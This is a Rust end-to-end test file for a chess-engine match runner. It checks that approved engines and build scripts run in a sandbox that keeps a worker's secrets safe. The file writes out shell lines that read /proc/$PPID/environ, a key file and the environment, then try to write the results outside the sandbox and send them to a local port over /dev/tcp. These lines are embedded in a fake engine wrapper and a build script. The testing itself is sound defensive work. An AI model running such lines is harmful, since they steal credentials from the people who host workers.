//! Workers that an engine cannot rob: the engines and builds of an approved run start in a box
//! (`runner::play::sandbox`). A hostile engine (a shell script wrapping the bundled engine)
//! and a hostile build script look for the worker's secrets (its environment through
//! `/proc/$PPID/environ`, its key file, their own environment), try to write what they found
//! outside their folder, to send it to a port on 127.0.0.1 and to print it: they find
//! nothing, write and send nothing, and the games are played. Stockfish's `Debug Log File`
//! pointing at a worker's file leaves it untouched. `runner status RUN` and `runner approve
//! RUN` show a stored `/bin/sh -c '...'` in full; `runner approve` asks, and refuses a standard
//! input that is not a terminal without `--yes`.

use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::Duration;

use e2e::pg::TempPg;
use e2e::{run_runner, runner_bin, scratch, stderr, wait_exit};

/// Values of the worker's that no engine or build may see.
const ENV_SECRET: &str = "sekrit-env-3141";
const PG_SECRET: &str = "sekrit-pgpassword-2718";

struct Fleet {
    pg: TempPg,
    dir: PathBuf,
    book: String,
}

impl Fleet {
    fn new(name: &str) -> Fleet {
        let dir = scratch(name);
        let book = e2e::write_book(&dir, 4);
        let f = Fleet { pg: TempPg::start(name), dir, book };
        let o = run_runner(&f.dir, &["db", "init", "--db", &f.pg.url()]);
        assert!(o.status.success(), "db init: {}", stderr(&o));
        f
    }

    fn runner(&self, args: &[&str]) -> Output {
        let url = self.pg.url();
        let mut full = args.to_vec();
        // `--db` after the (sub)subcommand: `worker-key add --db URL NAME`.
        let at = if args.first() == Some(&"worker-key") { 2 } else { 1 };
        full.splice(at..at, ["--db", url.as_str()]);
        run_runner(&self.dir, &full)
    }

    /// Submits a 4-game match at 1 node a move; returns the run's id.
    fn submit(&self, a: &str, b: &str) -> i64 {
        let args = [
            "submit",
            "match",
            "--engine",
            a,
            "--engine",
            b,
            "--book",
            &self.book,
            "--games",
            "4",
            "--seed",
            "7",
            "--nodes",
            "1",
            "--maxmoves",
            "40",
            "--progress",
            "quiet",
        ];
        let o = self.runner(&args);
        assert!(o.status.success(), "submit: {}", stderr(&o));
        let out = String::from_utf8_lossy(&o.stdout).into_owned();
        out.lines()
            .last()
            .and_then(|l| l.strip_prefix("run "))
            .and_then(|id| id.trim().parse().ok())
            .unwrap_or_else(|| panic!("no `run ID` last line: {out}"))
    }

    /// The key `runner worker-key add NAME` prints, written to a file of the worker's.
    fn key_file(&self, name: &str) -> (String, PathBuf) {
        let o = self.runner(&["worker-key", "add", name]);
        assert!(o.status.success(), "worker-key add: {}", stderr(&o));
        let key = String::from_utf8_lossy(&o.stdout).trim().to_string();
        assert!(!key.is_empty() && !key.contains(char::is_whitespace), "{key:?}");
        let p = self.dir.join(format!("{name}.key"));
        std::fs::write(&p, format!("{key}\n")).unwrap();
        (key, p)
    }

    /// A worker for `run` with the key in `key_file`, secrets in its environment, its cache
    /// and engine logs in the scratch folder. Returns its log once it ended successfully.
    fn worker(&self, run: i64, key_file: Option<&Path>) -> String {
        let (status, text) = self.worker_ended(run, key_file);
        assert!(status.success(), "{text}");
        text
    }

    /// [`Fleet::worker`], however it ended: its exit status and log.
    fn worker_ended(
        &self,
        run: i64,
        key_file: Option<&Path>,
    ) -> (std::process::ExitStatus, String) {
        let log_path = self.dir.join(format!("worker-{run}.log"));
        let log = std::fs::File::create(&log_path).unwrap();
        let mut cmd = Command::new(runner_bin());
        cmd.args(["worker", "--db", &self.pg.url(), "--run", &run.to_string()])
            .args(["--concurrency", "2", "--cache"])
            .arg(self.dir.join("cache"))
            .arg("--log-dir")
            .arg(self.dir.join("logs"))
            // The hostile scripts start the bundled engine, which a checkout in a home or under
            // /tmp would have inside a folder the box hides.
            .arg("--box-show")
            .arg(e2e::engine_bin());
        if let Some(k) = key_file {
            cmd.arg("--key-file").arg(k);
        }
        let mut child = cmd
            .env_remove("RUNNER_WORKER_KEY")
            .env("MPC_BOX_TEST_SECRET", ENV_SECRET)
            .env("PGPASSWORD", PG_SECRET)
            .current_dir(&self.dir)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(log)
            .spawn()
            .expect("start a worker");
        let status = wait_exit(&mut child, "the worker", Duration::from_secs(300));
        let text = std::fs::read_to_string(&log_path).unwrap_or_default();
        (status, text)
    }

    fn sql(&self, q: &str) -> String {
        self.pg.psql(q)
    }

    /// Every file's text under `dir`.
    fn text_under(dir: &Path) -> String {
        let mut out = String::new();
        for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
            let p = e.path();
            if p.is_dir() {
                out.push_str(&Fleet::text_under(&p));
            } else if let Ok(b) = std::fs::read(&p) {
                out.push_str(&String::from_utf8_lossy(&b));
            }
        }
        out
    }

    /// The run pulled into a folder, every file's text.
    fn pulled(&self, run: i64) -> String {
        let out = self.dir.join(format!("pulled-{run}"));
        let o = self.runner(&["pull", &run.to_string(), "--out", &out.display().to_string()]);
        assert!(o.status.success(), "pull: {}", stderr(&o));
        Fleet::text_under(&out)
    }
}

fn git(dir: &Path, args: &[&str]) {
    let o = Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(["-c", "user.name=test", "-c", "user.email=test@example.org"])
        .args(args)
        .output()
        .expect("git");
    assert!(o.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&o.stderr));
}

/// The shell lines that look for the worker's secrets and try to get them out: into `found`
/// (one line), `outside` (a file of the scratch folder), port `port` of 127.0.0.1 and the
/// process's stderr (`<what> ran: ...`).
fn hostile_lines(what: &str, key_file: &Path, outside: &Path, port: u16) -> String {
    format!(
        "found=\"$(cat /proc/$PPID/environ {key} 2>&1 | tr '\\000\\n' '  ') $(env | tr '\\n' ' ')\"\n\
         echo \"{what} ran: $found\" >&2\n\
         printf '%s\\n' \"$found\" > {outside} 2>/dev/null\n\
         printf '%s\\n' \"$found\" | bash -c 'cat > /dev/tcp/127.0.0.1/{port}' 2>/dev/null\n",
        key = key_file.display(),
        outside = outside.display(),
    )
}

fn write_script(p: &Path, body: &str) {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::write(p, body).unwrap();
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).unwrap();
}

fn assert_nothing_left(what: &str, text: &str, key: &str, outside: &Path, l: &TcpListener) {
    for secret in [key, ENV_SECRET, PG_SECRET, "RUNNER_DB", "MPC_BOX_TEST_SECRET"] {
        assert!(!text.contains(secret), "{what} found {secret}: {text}");
    }
    assert!(!outside.exists(), "{what} wrote {}", outside.display());
    match l.accept() {
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
        other => panic!("{what} connected to the test's port: {other:?}"),
    }
}

fn listener() -> (TcpListener, u16) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    l.set_nonblocking(true).unwrap();
    let port = l.local_addr().unwrap().port();
    (l, port)
}

#[test]
fn a_hostile_approved_engine_finds_nothing_writes_nothing_sends_nothing_and_plays() {
    let f = Fleet::new("fleet-box-engine");
    let (key, key_file) = f.key_file("box1");
    let (l, port) = listener();
    let outside = f.dir.join("stolen-by-engine");
    // On the submitter's machine it only plays (`runner submit` starts it): it acts on a
    // worker, from the cache.
    let theirs = f.dir.join("submitter");
    std::fs::create_dir_all(&theirs).unwrap();
    let script = theirs.join("hostile.sh");
    let engine = e2e::engine_bin();
    write_script(
        &script,
        &format!(
            "#!/bin/sh\ncase \"$0\" in */cache/*) ;; *) exec {e} \"$@\" ;; esac\n{lines}\
             echo \"info string $found\"\nexec {e} \"$@\"\n",
            e = engine.display(),
            lines = hostile_lines("engine", &key_file, &outside, port)
        ),
    );
    let a = format!("name=hostile,cmd={}", script.display());
    let b = format!("name=plain,cmd={}", engine.display());
    let run = f.submit(&a, &b);
    let log = f.worker(run, Some(&key_file));
    assert!(log.contains("engines and builds run in a box"), "{log}");
    assert_eq!(f.sql(&format!("SELECT state FROM runs WHERE id = {run}")), "complete", "{log}");
    assert_eq!(f.sql(&format!("SELECT count(*) FROM games WHERE run_id = {run}")), "4");
    let logs = Fleet::text_under(&f.dir.join("logs"));
    assert!(logs.contains("engine ran: "), "the engine's stderr: {logs}");
    let pulled = f.pulled(run);
    assert_nothing_left("the engine", &format!("{logs}\n{log}\n{pulled}"), &key, &outside, &l);
    assert_eq!(std::fs::read_to_string(&key_file).unwrap().trim(), key);
}

#[test]
fn a_hostile_build_script_finds_nothing_writes_nothing_sends_nothing() {
    let f = Fleet::new("fleet-box-build");
    let (key, key_file) = f.key_file("box2");
    let (l, port) = listener();
    let outside = f.dir.join("stolen-by-build");
    let repo = f.dir.join("engine-src");
    std::fs::create_dir_all(&repo).unwrap();
    let eng = format!(
        "#!/bin/sh\nif [ \"$1\" = bench ]; then\n  echo 'Nodes searched  : 4242' >&2\n  \
         echo 'Nodes/second    : 99000' >&2\n  exit 0\nfi\nexec {} \"$@\"\n",
        e2e::engine_bin().display()
    );
    std::fs::write(repo.join("eng.in"), eng).unwrap();
    // On a worker (in its cache) the build looks around, and keeps what it found as the last
    // line of the binary it makes (a comment after `exec`), which the test reads.
    let build = format!(
        "mkdir -p out\ncp eng.in out/eng\nchmod +x out/eng\n\
         case \"$PWD\" in */cache/*) ;; *) exit 0 ;; esac\n{lines}\
         printf '# build found: %s\\n' \"$found\" >> out/eng\n",
        lines = hostile_lines("build", &key_file, &outside, port)
    );
    std::fs::write(repo.join("build.sh"), build).unwrap();
    git(&repo, &["init", "-q"]);
    git(&repo, &["add", "."]);
    git(&repo, &["commit", "-qm", "v1"]);
    let a = format!("name=dev,src={},build=sh build.sh,bin=out/eng", repo.display());
    let b = format!("name=plain,cmd={}", e2e::engine_bin().display());
    let run = f.submit(&a, &b);
    let log = f.worker(run, Some(&key_file));
    assert_eq!(f.sql(&format!("SELECT state FROM runs WHERE id = {run}")), "complete", "{log}");
    assert_eq!(f.sql(&format!("SELECT count(*) FROM games WHERE run_id = {run}")), "4");
    let built: Vec<PathBuf> = std::fs::read_dir(f.dir.join("cache"))
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .filter(|p| {
            let n = p.file_name().unwrap().to_string_lossy().into_owned();
            n.starts_with("build-") && !n.ends_with(".sha256")
        })
        .collect();
    assert_eq!(built.len(), 1, "{built:?}");
    let binary = std::fs::read_to_string(&built[0]).unwrap();
    assert!(binary.contains("# build found: "), "the build did not run its lines: {binary}");
    assert_nothing_left("the build", &format!("{binary}\n{log}"), &key, &outside, &l);
}

#[test]
fn stockfish_plays_in_the_box_and_its_debug_log_file_leaves_a_workers_file_untouched() {
    let sf = Path::new("/usr/games/stockfish");
    assert!(sf.is_file(), "this test needs Debian's stockfish (apt-get install stockfish)");
    let f = Fleet::new("fleet-box-stockfish");
    let victim = f.dir.join("victim.txt");
    let a = format!("name=stockfish,option.Debug Log File={}", victim.display());
    let b = format!("name=plain,cmd={}", e2e::engine_bin().display());
    // `runner submit` starts the engines on the submitter's machine, unboxed: the file is
    // made afterwards, as a worker's.
    let run = f.submit(&a, &b);
    std::fs::write(&victim, "precious\n").unwrap();
    let (_, log) = f.worker_ended(run, None);
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious\n", "{log}");
    // Stockfish exits when it cannot open its debug log (the file is read-only in the box), so
    // the worker refuses the run, saying why, rather than play it; the run stays active for
    // workers that can serve it. (Unboxed, the file would now be Stockfish's log.)
    // A checkout under /tmp puts the file in the box's private /tmp, where Stockfish writes
    // its log into the box's own folder (gone with the box) and plays: the file is untouched
    // either way.
    let refused = format!("refusing run {run}: cannot start an engine: engine stockfish");
    let state = f.sql(&format!("SELECT state FROM runs WHERE id = {run}"));
    let private = std::fs::canonicalize(&f.dir).unwrap().starts_with("/tmp");
    match private {
        false => assert!(log.contains(&refused) && state == "active", "{log}"),
        true => assert!(log.contains(&refused) || state == "complete", "{log}"),
    }
    // Without the option, Debian's Stockfish plays in the box to the run's end.
    let plain = f.submit("name=stockfish", &b);
    let log = f.worker(plain, None);
    assert!(log.contains("engines and builds run in a box"), "{log}");
    assert_eq!(f.sql(&format!("SELECT state FROM runs WHERE id = {plain}")), "complete", "{log}");
    assert_eq!(f.sql(&format!("SELECT count(*) FROM games WHERE run_id = {plain}")), "4");
}

#[test]
fn status_and_approve_show_a_stored_shell_command_in_full_and_approve_asks() {
    let f = Fleet::new("fleet-box-approve");
    let engine = e2e::engine_bin();
    let text = format!("exec {} \"$@\" # every word of this is shown", engine.display());
    let a = format!("name=shell,cmd=/bin/sh,arg=-c,arg={text},option.Hash=8");
    let b = format!("name=plain,cmd={}", engine.display());
    let run = f.submit(&a, &b);
    let quoted = format!("command: /bin/sh -c '{text}'");
    let o = f.runner(&["status", &run.to_string()]);
    assert!(o.status.success(), "{}", stderr(&o));
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    assert!(out.contains(&quoted), "{out}");
    assert!(out.contains("Hash = 8"), "{out}");
    let sh = std::fs::canonicalize("/bin/sh").unwrap();
    let size = std::fs::metadata(&sh).unwrap().len();
    assert!(out.contains(&format!("{size} bytes")), "the stored /bin/sh's size: {out}");
    // As a run of a submitter who is not an approver: it waits.
    f.sql(&format!("UPDATE runs SET state = 'pending', approved_by = NULL WHERE id = {run}"));
    let o = Command::new(runner_bin())
        .args(["approve", "--db", &f.pg.url(), &run.to_string()])
        .current_dir(&f.dir)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(!o.status.success());
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    assert!(out.contains(&quoted), "{out}");
    assert!(stderr(&o).contains("--yes"), "{}", stderr(&o));
    assert_eq!(f.sql(&format!("SELECT state FROM runs WHERE id = {run}")), "pending");
    let o = f.runner(&["approve", &run.to_string(), "--yes"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    assert!(out.contains(&quoted) && out.contains("approved"), "{out}");
    assert_eq!(f.sql(&format!("SELECT state FROM runs WHERE id = {run}")), "active");
}
